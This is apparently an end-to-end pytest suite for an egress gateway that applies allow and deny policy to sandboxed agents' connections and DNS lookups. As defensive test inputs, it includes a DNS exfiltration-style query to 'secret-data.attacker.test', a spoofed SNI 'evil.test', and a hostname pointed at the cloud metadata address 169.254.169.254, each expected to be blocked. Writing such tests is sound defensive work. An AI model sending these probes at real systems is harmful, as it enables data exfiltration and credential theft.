"""The dialer end to end (issue acceptance, SPEC 10 topology): unmodified curl, dig,
openssl, python and nc in agent sandboxes; dnsmasq and real servers on documentation
addresses; the real dialer in gw; a PROXY-v2-decoding next hop standing in for Envoy.
"""

from __future__ import annotations

import collections
import json
import os
import textwrap
import time

import pytest

from clrk.nexthops import DEFAULT_BASE_PORT
from clrk_worker_dialer.proxy_credentials import ensure_token
from clrk_worker_dialer.splice_relay import PipePool
from tests.e2e.dialer_proc import DialerProcess
from tests.e2e.topology import DEFAULT_ZONE, Topology, sources

A_INDEX, B_INDEX = 40, 41
ZONE = {
    **DEFAULT_ZONE,
    "meta.test": {"A": ["169.254.169.254"], "ttl": 60},
    "loop.test": {"A": ["127.0.0.1"], "ttl": 60},
}

POLICY = """
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressGateway
metadata: {name: egress}
spec:
  listeners:
  - {name: tcp, protocol: TCP}
  - {name: tls, protocol: TLS, port: 443}
  - {name: dgram, protocol: UDP}
  dns: {upstream: ["198.51.100.53:53"], mode: %(mode)s}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {name: web}
spec:
  parentRefs: [{name: egress, sectionName: tcp}]
  rules:
  - matches: [{destinationHostnames: [example.test, meta.test, loop.test], ports: [{port: 80}]}]
  - matches: [{destinationHostnames: ["*.wild.test"], ports: [{port: 80}]}]
  - matches: [{destinationHostnames: [other.test], ports: [{startPort: 70, endPort: 90}]}]
  - matches: [{destinationCIDRs: [203.0.113.0/24], ports: [{port: 7}]}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {name: api}
spec:
  parentRefs: [{name: egress, sectionName: tls}]
  rules:
  - matches: [{destinationHostnames: [api.example.test]}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: EgressL4Route
metadata: {name: echo-udp}
spec:
  parentRefs: [{name: egress, sectionName: dgram}]
  rules:
  - matches: [{destinationHostnames: [example.test], protocol: UDP, ports: [{port: 7}]}]
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: DaemonAgent
metadata: {name: agent-a}
spec: {egressRefs: [{gatewayRef: egress}]}
---
apiVersion: clrk.apoxy.dev/v1alpha1
kind: DaemonAgent
metadata: {name: agent-b}
spec: {egressRefs: [{gatewayRef: egress}]}
"""

DENIED = "egress.dial.denied"
CURL = ["curl", "-sS", "--max-time", "5"]


@pytest.fixture(scope="module")
def world(topology: Topology):
    """Agents A and B, the next hop, and the dialer (restarted per module)."""
    topology.restart_dns(ZONE)
    manifests = topology.workdir / "dialer-policy.yaml"
    manifests.write_text(POLICY % {"mode": "Forward"})
    a = topology.add_agent(A_INDEX)
    b = topology.add_agent(B_INDEX)
    hop, hop_log = topology.start_next_hop(
        [f"127.0.0.1:{DEFAULT_BASE_PORT}", f"127.0.0.1:{DEFAULT_BASE_PORT + 1}"]
    )
    credentials = topology.workdir / "proxy-credentials"
    ensure_token(credentials, "default/agent-a")  # explicit mode names agent-a with it
    dialer = None
    try:
        dialer = DialerProcess(
            topology,
            manifests,
            gateway="default/egress",
            sources={**sources(A_INDEX, "default/agent-a"), **sources(B_INDEX, "agent-b")},
            extra=["--socks5", "127.0.0.1:1080", "--http-connect", "127.0.0.1:3128",
                   "--proxy-credentials", str(credentials)],
        )  # fmt: skip
        yield {"a": a, "b": b, "hop_log": hop_log, "dialer": dialer, "manifests": manifests}
    finally:
        if dialer is not None:
            dialer.stop()
        topology.processes.stop(hop)
        topology.remove_agent(a)
        topology.remove_agent(b)
        topology.restart_dns(DEFAULT_ZONE)


def hops_since(world, mark: int) -> list[dict]:
    return world["hop_log"].entries(mark)


@pytest.fixture(autouse=True)
def _test_start(world):
    world["t0"] = time.time_ns()  # records of earlier tests are not this test's


def one_denial(world, where: dict[str, str]) -> dict:
    found = world["dialer"].records(DENIED, where, since_ns=world["t0"])
    spans = [r for r in found if r["signal"] == "span"]
    logs = [r for r in found if r["signal"] == "log"]
    assert len(spans) == 1 and len(logs) == 1, found
    return spans[0]["attributes"]


def test_an_allowed_name_reaches_the_next_hop_with_the_original_destination_and_tlvs(
    world, topology
):
    mark = world["hop_log"].mark()
    out = world["a"].run([*CURL, "-4", "http://example.test/"])
    assert out.returncode == 0, out.stderr
    (hop,) = hops_since(world, mark)
    assert hop["dst"] == ["192.0.2.10", 80]
    assert hop["src"][0] == world["a"].address_v4
    assert hop["tlvs"]["0x02"] == "example.test"
    assert hop["tlvs"]["0xe1"] == "default" and hop["tlvs"]["0xe2"] == "agent-a"
    assert hop["tlvs"]["0xe3"] == "default/web"
    assert len(hop["tlvs"]["0xe5"]) == 16  # the connection id


def test_ipv6_goes_the_same_way(world):
    mark = world["hop_log"].mark()
    out = world["a"].run([*CURL, "-6", "http://example.test/"])
    assert out.returncode == 0, out.stderr
    (hop,) = hops_since(world, mark)
    assert hop["dst"] == ["2001:db8:1::10", 80]
    assert hop["src"][0] == world["a"].address_v6
    assert hop["tlvs"]["0x02"] == "example.test"


def test_a_name_not_allowed_is_reset_never_connected_and_recorded_once(world, topology):
    server_mark, hop_mark = topology.server_log.mark(), world["hop_log"].mark()
    out = world["a"].run([*CURL, "http://third.test/"])
    assert out.returncode in (7, 52, 56), (out.returncode, out.stderr)  # reset / no reply
    assert hops_since(world, hop_mark) == []
    assert [
        e for e in topology.server_log.entries(server_mark) if "192.0.2.12" in json.dumps(e)
    ] == []
    attrs = one_denial(world, {"clrk.dst.name": "third.test"})
    assert attrs["clrk.egress.deny_reason"] == "policy"
    assert attrs["agent.name"] == "agent-a" and attrs["agent.namespace"] == "default"
    assert attrs["network.peer.address"] == "192.0.2.12"
    assert attrs["network.peer.port"] in (80, "80")
    assert attrs["network.transport"] == "tcp"
    assert attrs["clrk.egress.policy.default"] == "deny-all"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("http://x.wild.test/", True),  # *.wild.test
        ("http://other.test:80/", True),  # port inside 70-90
        ("http://other.test:7/", False),  # port outside the range
    ],
)
def test_wildcard_and_port_range_rules_behave_as_the_policy_core_says(world, url, allowed):
    mark = world["hop_log"].mark()
    out = world["a"].run([*CURL, "-o", "/dev/null", url])
    assert (out.returncode == 0 or bool(hops_since(world, mark))) == allowed, out.stderr


def test_a_hard_coded_ip_matches_only_cidr_rules(world):
    agent = world["a"]
    # 203.0.113.5:7 is opened by a CIDR: the echo answers through the next hop.
    out = agent.run(["python3", "-c", textwrap.dedent("""
        import socket
        s = socket.create_connection(("203.0.113.5", 7), timeout=5)
        s.sendall(b"ping"); print(s.recv(4).decode())
    """)])  # fmt: skip
    assert out.stdout.strip() == "ping", out.stderr
    # 192.0.2.11:80 is only reachable by the name other.test, which B never resolved.
    out = world["b"].run([*CURL, "http://192.0.2.11/"])
    assert out.returncode != 0
    attrs = one_denial(world, {"network.peer.address": "192.0.2.11", "agent.name": "agent-b"})
    assert attrs["clrk.egress.deny_reason"] == "policy"


def test_an_sni_contradicting_the_dns_binding_is_denied_sni_mismatch(world, topology):
    agent = world["a"]
    assert agent.run(["dig", "+short", "api.example.test"]).stdout.split() == ["203.0.113.5"]
    ca = str(topology.certs["ca"])
    good = agent.run(["openssl", "s_client", "-connect", "203.0.113.5:443", "-servername",
                      "api.example.test", "-CAfile", ca, "-verify_return_error", "-brief"],
                     input="", timeout=10)  # fmt: skip
    assert good.returncode == 0, good.stderr
    bad = agent.run(["openssl", "s_client", "-connect", "203.0.113.5:443", "-servername",
                     "evil.test", "-brief"], input="", timeout=10)  # fmt: skip
    assert bad.returncode != 0
    attrs = one_denial(world, {"clrk.egress.deny_reason": "sni_mismatch"})
    assert attrs["clrk.dst.name"] == "evil.test"


def test_an_allowed_name_resolving_to_the_metadata_address_is_blocked(world):
    out = world["a"].run([*CURL, "http://meta.test/"])
    assert out.returncode != 0
    attrs = one_denial(world, {"clrk.dst.name": "meta.test"})
    assert attrs["clrk.egress.deny_reason"] == "blocked_address"
    assert attrs["network.peer.address"] == "169.254.169.254"


def test_dns_sent_to_any_address_is_answered_by_the_upstream_and_snooped(world, topology):
    agent = world["b"]
    mark = topology.dns_log.mark()
    out = agent.run(["dig", "+short", "+time=2", "+tries=1", "@192.0.2.99", "other.test"])
    assert out.stdout.split() == ["192.0.2.11"], out.stderr
    assert any(q[1] == "other.test" for q in topology.dns_log.queries(mark))
    # The snooped binding is B's now: the hard-coded IP matches the name rule.
    out = agent.run([*CURL, "-o", "/dev/null", "-w", "%{http_code}", "http://192.0.2.11/"])
    assert out.stdout == "200", out.stderr
    # TCP/53 too.
    out = agent.run(["dig", "+tcp", "+short", "+time=2", "+tries=1", "@198.51.100.53",
                     "example.test"])  # fmt: skip
    assert out.stdout.split() == ["192.0.2.10"], out.stderr


def test_agent_b_cannot_use_a_name_only_agent_a_resolved(world):
    assert world["a"].run(["dig", "+short", "x.wild.test"]).stdout.split() == ["203.0.113.6"]
    out = world["b"].run([*CURL, "http://203.0.113.6/"])
    assert out.returncode != 0
    attrs = one_denial(world, {"network.peer.address": "203.0.113.6", "agent.name": "agent-b"})
    assert attrs["clrk.egress.deny_reason"] == "policy"


def test_udp_flows_are_relayed_when_allowed_and_dropped_once_per_flow_otherwise(world):
    agent = world["a"]
    script = textwrap.dedent("""
        import socket, sys
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1.5)
        s.connect((socket.gethostbyname(sys.argv[1]), 7))
        for _ in range(3):
            s.send(b"hello")
        try:
            print(s.recv(100).decode())
        except socket.timeout:
            print("timeout")
    """)
    assert agent.run(["python3", "-c", script, "example.test"]).stdout.strip() == "hello"
    assert agent.run(["python3", "-c", script, "other.test"]).stdout.strip() == "timeout"
    attrs = one_denial(world, {"network.transport": "udp", "clrk.dst.name": "other.test"})
    assert attrs["clrk.egress.deny_reason"] == "policy"


def test_nc_gets_the_same_decisions(world):
    agent = world["a"]
    ok = agent.run(["nc", "-w", "3", "203.0.113.5", "7"], input="hi\n")
    assert ok.stdout == "hi\n", ok.stderr
    denied = agent.run(["nc", "-w", "3", "203.0.113.5", "8"], input="hi\n")
    assert denied.stdout == ""


def test_filtered_mode_answers_nxdomain_and_records_the_query(world, topology):
    dialer = world["dialer"]
    since = len(dialer.log())
    world["manifests"].write_text(POLICY % {"mode": "Filtered"})
    try:
        assert dialer.wait_for_log('"version": 2', since), dialer.log()[since:]
        mark = topology.dns_log.mark()
        out = world["a"].run(["dig", "+time=2", "+tries=1", "secret-data.attacker.test"])
        assert "status: NXDOMAIN" in out.stdout, out.stdout
        assert all("attacker" not in q[1] for q in topology.dns_log.queries(mark))
        found = dialer.records(
            "egress.dns.denied", {"dns.question.name": "secret-data.attacker.test"}
        )
        assert {r["signal"] for r in found} == {"span", "log"} and len(found) == 2
        assert found[0]["attributes"]["clrk.egress.deny_reason"] == "dns_filtered"
        # listed names still resolve
        assert world["a"].run(["dig", "+short", "example.test"]).stdout.split() == ["192.0.2.10"]
    finally:
        since = len(dialer.log())
        world["manifests"].write_text(POLICY % {"mode": "Forward"})
        dialer.wait_for_log('"version": 3', since)


def test_an_invalid_edit_keeps_the_last_good_policy(world):
    dialer = world["dialer"]
    since = len(dialer.log())
    world["manifests"].write_text(
        POLICY.replace("[{port: 80}]", "[{port: 99999}]") % {"mode": "Forward"}
    )
    try:
        assert dialer.wait_for_log("policy rejected", since), dialer.log()[since:]
        out = world["a"].run(
            [*CURL, "-o", "/dev/null", "-w", "%{http_code}", "http://example.test/"]
        )
        assert out.stdout == "200"
    finally:
        since = len(dialer.log())
        world["manifests"].write_text(POLICY % {"mode": "Forward"})
        dialer.wait_for_log("policy applied", since)


@pytest.mark.parametrize(
    "proxy",
    [
        ["--proxy", "socks5h://agent-a:TOKEN@127.0.0.1:1080"],
        ["--proxytunnel", "--proxy", "http://agent-a:TOKEN@127.0.0.1:3128"],
    ],
    ids=["socks5h", "http-connect"],
)
def test_explicit_mode_gets_the_same_decisions(world, topology, proxy):
    token = ensure_token(topology.workdir / "proxy-credentials", "default/agent-a")
    proxy = [arg.replace("TOKEN", token) for arg in proxy]
    mark = world["hop_log"].mark()
    ok = topology.run_in_gw([*CURL, *proxy, "-o", "/dev/null", "-w", "%{http_code}",
                             "http://example.test/"])  # fmt: skip
    assert ok.stdout == "200", ok.stderr
    (hop,) = hops_since(world, mark)
    assert hop["dst"] in (["192.0.2.10", 80], ["2001:db8:1::10", 80])
    assert hop["tlvs"]["0xe2"] == "agent-a"
    denied = topology.run_in_gw([*CURL, *proxy, "http://third.test/"])
    assert denied.returncode != 0
    blocked = topology.run_in_gw([*CURL, *proxy, "http://loop.test/"])
    assert blocked.returncode != 0
    attrs = one_denial(world, {"clrk.dst.name": "loop.test"})
    assert attrs["clrk.egress.deny_reason"] == "blocked_address"


# Runs in the agent: many connections at once to the CIDR-allowed echo server, each in
# one of three ways: echo checked byte for byte, half-close then drain, or an abortive
# close (RST) half-way.  Prints how many of the checked ones came back intact.
CHURN = textwrap.dedent("""
    import hashlib, json, os, socket, struct, threading
    ok, bad = [], []
    def one(i):
        size = (i * 7919) % (256 << 10)
        payload = os.urandom(size)
        s = socket.create_connection(("203.0.113.5", 7), timeout=10)
        try:
            if i % 4 == 3:  # abortive close with bytes still in flight
                s.sendall(payload[: size // 2])
                s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                return
            sender = threading.Thread(target=s.sendall, args=(payload,))
            sender.start()
            got = bytearray()
            while len(got) < size:
                chunk = s.recv(1 << 16)
                if not chunk:
                    break
                got += chunk
            sender.join()
            s.shutdown(socket.SHUT_WR)
            rest = s.recv(1)  # the echo server closes after our EOF
            (ok if bytes(got) == payload and rest == b"" else bad).append(i)
        finally:
            s.close()
    threads = [threading.Thread(target=one, args=(i,)) for i in range(80)]
    for t in threads: t.start()
    for t in threads: t.join()
    print(json.dumps({"ok": len(ok), "bad": bad}))
""")


def sockets_and_pipes(pid: int) -> list[str]:
    """The relay's kind of descriptors (socket:[inode], pipe:[inode]); the others come
    and go with threads the dialer starts lazily (the manifest watcher's)."""
    fds = f"/proc/{pid}/fd"
    out = []
    for fd in os.listdir(fds):
        try:
            target = os.readlink(f"{fds}/{fd}")
        except FileNotFoundError:  # closed meanwhile
            continue
        if target.startswith(("socket:", "pipe:")):
            out.append(target)
    return sorted(out)


def _netlink_sockets(pid: int) -> set[str]:
    """The process's netlink sockets: the one the relay keeps for the life of the process
    to ask the kernel what the next hop has read (peer_unread) opens at its first use."""
    with open(f"/proc/{pid}/net/netlink") as table:
        inodes = {line.split()[-1] for line in table.read().splitlines()[1:]}
    return {f"socket:[{inode}]" for inode in inodes}


def _kept_apart(fds: list[str], pid: int) -> tuple[list[str], collections.Counter]:
    """(the sockets but netlink ones, how many ends of each pipe are open)."""
    netlink = _netlink_sockets(pid)
    sockets = [fd for fd in fds if fd.startswith("socket:") and fd not in netlink]
    return sockets, collections.Counter(fd for fd in fds if fd.startswith("pipe:"))


def test_connection_churn_keeps_bytes_intact_and_leaks_no_descriptor(world):
    """Eighty connections at once through the splice relay, a quarter of them reset by
    the agent mid-transfer: every checked echo is intact, and afterwards the dialer holds
    exactly the sockets it held before (each relayed connection takes two, and four pipe
    ends) and, besides its pipes from before, only whole empty pipes its pool keeps for
    the next relays, at most PipePool.keep of them."""
    pid = world["dialer"].proc.pid
    sockets_before, pipes_before = _kept_apart(sockets_and_pipes(pid), pid)
    out = world["a"].run(["python3", "-c", CHURN], timeout=60)
    assert out.returncode == 0, out.stderr
    got = json.loads(out.stdout)
    assert got == {"ok": 60, "bad": []}, got
    deadline = time.monotonic() + 10
    while (
        _kept_apart(sockets_and_pipes(pid), pid)[0] != sockets_before
        and time.monotonic() < deadline
    ):
        time.sleep(0.1)
    sockets, pipes = _kept_apart(sockets_and_pipes(pid), pid)
    assert sockets == sockets_before
    kept = pipes - pipes_before  # (kept ones from before may have been used meanwhile)
    assert set(kept.values()) <= {2}  # whole pipes
    assert len(pipes) <= len(pipes_before) + PipePool().keep
